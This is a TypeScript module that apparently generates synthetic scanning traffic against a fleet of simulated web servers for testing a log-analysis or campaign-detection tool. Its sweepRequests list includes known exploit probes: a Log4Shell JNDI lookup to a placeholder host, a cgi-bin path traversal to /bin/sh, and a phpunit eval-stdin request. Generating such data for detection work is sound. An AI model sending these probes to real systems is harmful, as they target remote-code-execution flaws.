import type { Random } from "../../lib/demo/random.ts";
import { commons, listFrom, randomList, shuffle } from "./random-lists.ts";

export type MeasuredServer = {
  id: number;
  format: "combined" | "common" | "vhost_combined";
  answersEverything: boolean;
  /** A firewall in front answers 403 to whatever is not a page. */
  deniesEverything: boolean;
  /** How far its clock is off. */
  skewMs: number;
};
/** One request that somebody sends, before the server has answered. */
export type Sent = {
  atMs: number;
  server: MeasuredServer;
  source: string;
  text: string;
  agent: string;
  campaign: number | null;
};
export type Campaign = {
  id: number;
  kind: "wordlist" | "sweep";
  sources: string[];
  /** Sources that tried the list of another campaign as well. */
  mixed: Set<string>;
  targets: string[];
  sent: Sent[];
};
export type Fleet = { servers: MeasuredServer[]; campaigns: Campaign[]; startMs: number; endMs: number };

const hourMs = 3_600_000;
const linesMax = 6_000;
export const browsers = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
];
const sweepRequests = [
  "OPTIONS / RTSP/1.0",
  "\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03",
  "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
  "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
  "GET /geoserver/web/ HTTP/1.1",
  "GET /+CSCOE+/logon.html HTTP/1.1",
  "SSH-2.0-Go",
  "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1",
  "CONNECT probe.example.net:443 HTTP/1.1",
  "GET /manager/text/list HTTP/1.1",
];

/** A fleet with campaigns that are known, as varied as the attacks that the issue names. */
export function randomFleet(random: Random): Fleet {
  const startMs = Date.UTC(2026, 10, 2);
  const endMs = startMs + random.between(2, 6) * 24 * hourMs;
  const servers = Array.from({ length: random.between(4, 20) }, (_, i): MeasuredServer => {
    const roll = random.next();
    const format = roll < 0.7 ? "combined" : roll < 0.85 ? "common" : "vhost_combined";
    const skewMs = random.next() < 0.2 ? random.between(-240, 240) * 1_000 : 0;
    const deniesEverything = i === 1 && random.next() < 0.5;
    return { id: i + 1, format, answersEverything: i === 0, deniesEverything, skewMs };
  });
  const campaigns: Campaign[] = [];
  const pool = random.next() < 0.3 ? randomList(random.between(150, 900), random) : null;
  const count = random.between(3, 9);
  for (let id = 1; id <= count; id++) {
    const isSweep = random.next() < 0.3;
    campaigns.push(
      isSweep
        ? aSweep(id, servers, startMs, endMs, random, campaigns)
        : aWordlist(id, servers, startMs, endMs, random, pool),
    );
  }
  mixLists(campaigns, random);
  return { servers, campaigns, startMs, endMs };
}

const logUniform = (from: number, to: number, random: Random): number =>
  Math.exp(Math.log(from) + random.next() * (Math.log(to) - Math.log(from)));

function aWordlist(
  id: number,
  servers: MeasuredServer[],
  startMs: number,
  endMs: number,
  random: Random,
  pool: string[] | null,
): Campaign {
  const size = Math.round(logUniform(5, 500, random));
  const targets = pool && pool.length >= size * 2.5 ? listFrom(pool, size, random) : randomList(size, random);
  const sources = addresses(Math.round(logUniform(1, 40, random)), random);
  const isShuffled = random.next() < 0.5;
  const isDripping = size <= 60 && random.next() < 0.1;
  const agentOf = agents(random);
  const isUncached = random.next() < 0.1;
  let each = random.between(1, Math.min(6, servers.length));
  if (size < 16 && sources.length === 1) each = Math.max(2, each);
  while (each > 1 && sources.length * each * size > linesMax) each--;
  const paceMs = isDripping
    ? Math.min(logUniform(0.3, 4, random) * hourMs, ((endMs - startMs) * 0.6) / (size * each))
    : 1_000 * Math.min(logUniform(0.05, 60, random), (8 * 3_600) / size);
  const spreadMs = Math.min(
    logUniform(0.1, 72, random) * hourMs,
    (endMs - startMs) * (isDripping ? 0.2 : 0.7),
  );
  const beginMs = startMs + random.next() * (endMs - startMs - spreadMs) * (isDripping ? 0.2 : 0.7);
  const sent: Sent[] = [];
  for (const source of sources) {
    const agent = agentOf();
    let atMs = beginMs + random.next() * spreadMs;
    const chosen = shuffle([...servers], random).slice(0, each);
    const part = partOf(targets, isShuffled, random);
    const send = (server: MeasuredServer, target: string): void => {
      const suffix = isUncached && !target.includes("?") ? `?_=${random.between(1e9, 2e9)}` : "";
      sent.push({ atMs, server, source, text: `GET ${target}${suffix} HTTP/1.1`, agent, campaign: id });
      atMs += paceMs * (0.5 + random.next());
    };
    if (isDripping) for (const target of part) for (const server of chosen) send(server, target);
    else {
      for (const server of chosen) {
        for (const target of isShuffled ? shuffle([...part], random) : part) send(server, target);
        atMs += random.next() * 60_000;
      }
    }
  }
  return { id, kind: "wordlist", sources, mixed: new Set(), targets, sent };
}

/** 50 to 100 % of a list: chosen at random, or its beginning. */
function partOf(targets: readonly string[], isShuffled: boolean, random: Random): string[] {
  const count = Math.max(1, Math.ceil(targets.length * (0.5 + random.next() * 0.5)));
  if (random.next() < 0.3) return targets.slice(0, count);
  const chosen = new Set(shuffle([...targets], random).slice(0, count));
  return isShuffled ? [...chosen] : targets.filter((target) => chosen.has(target));
}

function aSweep(
  id: number,
  servers: MeasuredServer[],
  startMs: number,
  endMs: number,
  random: Random,
  others: Campaign[],
): Campaign {
  const taken = new Set(others.flatMap(({ targets }) => targets));
  const text = random.pick(sweepRequests.filter((one) => !taken.has(one)));
  const sources = addresses(Math.round(logUniform(1, 40, random)), random);
  const isNear = new Set(sources.map((source) => source.split(/[.:]/).slice(0, 3).join())).size === 1;
  const spreadMs =
    sources.length === 1 ? 0 : (isNear ? logUniform(0.1, 8, random) : logUniform(0.02, 0.5, random)) * hourMs;
  const beginMs = startMs + random.next() * (endMs - startMs - spreadMs) * 0.9;
  const paceMs = 1_000 * logUniform(0.05, 60, random);
  const agentOf = agents(random);
  const each = sources.length < 4 ? random.between(3, servers.length) : random.between(1, servers.length);
  const sent = sources.flatMap((source) => {
    const agent = agentOf();
    let atMs = beginMs + random.next() * spreadMs;
    return shuffle([...servers], random)
      .slice(0, Math.max(each, 1))
      .map((server): Sent => {
        atMs += paceMs * (0.5 + random.next());
        return { atMs, server, source, text, agent, campaign: id };
      });
  });
  return { id, kind: "sweep", sources, mixed: new Set(), targets: [text], sent };
}

/** Now and then a source tries two lists in one run. */
function mixLists(campaigns: readonly Campaign[], random: Random): void {
  const lists = campaigns.filter(({ kind, sources }) => kind === "wordlist" && sources.length >= 4);
  const [a, b] = shuffle([...lists], random);
  if (!a || !b || random.next() < 0.4) return;
  const source = random.pick(a.sources);
  const own = a.sent.filter((sent) => sent.source === source);
  const last = own.at(-1);
  if (!last) return;
  a.mixed.add(source);
  b.mixed.add(source);
  let atMs = last.atMs;
  for (const target of partOf(b.targets, true, random)) {
    atMs += 1_000 * random.next() * 2;
    a.sent.push({ ...last, atMs, text: `GET ${target} HTTP/1.1` });
  }
}

/** Agents of a campaign: none, one odd name, one browser, or another browser for every source. */
function agents(random: Random): () => string {
  const roll = random.next();
  const odd = `Mozilla/5.0 (compatible; ${String.fromCharCode(65 + random.between(0, 25))}scan/${random.between(1, 9)}.${random.between(0, 9)})`;
  const browser = random.pick(browsers);
  if (roll < 0.25) return () => "-";
  if (roll < 0.45) return () => odd;
  return roll < 0.7 ? () => browser : () => random.pick(browsers);
}

/** Neighbours in a /24, IPv6 out of one /48, scattered IPv4, scattered IPv6. */
function addresses(count: number, random: Random): string[] {
  const roll = random.next();
  const found = new Set<string>();
  const octet = () => random.between(1, 250);
  const near = `${random.between(20, 99)}.${octet()}.${octet()}`;
  const group = () => random.between(1, 65_534).toString(16);
  const near6 = `2a0${random.between(1, 9)}:${group()}:${group()}`;
  while (found.size < count) {
    if (roll < 0.3) found.add(`${near}.${octet()}`);
    else if (roll < 0.45) found.add(`${near6}:${group()}::${group()}`);
    else if (roll < 0.9) found.add(`${random.between(20, 99)}.${octet()}.${octet()}.${octet()}`);
    else found.add(`2a0${random.between(1, 9)}:${group()}:${group()}:${group()}::1`);
  }
  return [...found];
}

/** Lone probers: one to six probes at random, of which everybody has heard. */
export function loneProbers(fleet: Fleet, count: number, random: Random): Sent[] {
  const sent: Sent[] = [];
  for (let i = 0; i < count; i++) {
    const [source] = addresses(1, random);
    if (!source) continue;
    let atMs = fleet.startMs + random.next() * (fleet.endMs - fleet.startMs);
    const agent = random.next() < 0.4 ? "-" : random.pick(browsers);
    const server = random.pick(fleet.servers);
    const isSpread = random.next() < 0.3;
    for (let n = random.between(1, 6); n > 0; n--) {
      const text = random.next() < 0.15 ? random.pick(sweepRequests) : `GET ${random.pick(commons)} HTTP/1.1`;
      const goal = isSpread ? random.pick(fleet.servers) : server;
      sent.push({ atMs, server: goal, source, text, agent, campaign: null });
      atMs += 1_000 * random.next() * 20;
    }
  }
  return sent;
}
